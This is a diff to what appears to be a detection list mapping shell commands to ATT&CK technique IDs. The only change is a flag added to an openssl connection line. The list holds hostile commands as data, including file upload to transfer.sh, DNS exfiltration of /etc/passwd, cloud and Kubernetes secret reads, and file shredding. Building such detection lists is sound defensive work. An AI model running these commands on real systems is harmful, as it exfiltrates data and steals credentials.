@@ -132,7 +132,7 @@ MORE_SENSITIVE = [
     ("export PATH=/tmp:$PATH", "T1574.007"),
     ("curl -F f=@/tmp/x https://transfer.sh", "T1567"),
     ("dig $(cat /etc/passwd | base64).x.example", "T1048.003"),
-    ("openssl s_client -connect 203.0.113.1:443", "T1573"),
+    ("openssl s_client -quiet -connect 203.0.113.1:443", "T1573"),
     ("aws sts get-caller-identity", "T1552.001"),
     ("kubectl get secrets -A", "T1552.007"),
     ("shred -u /tmp/x", "T1070.004"),
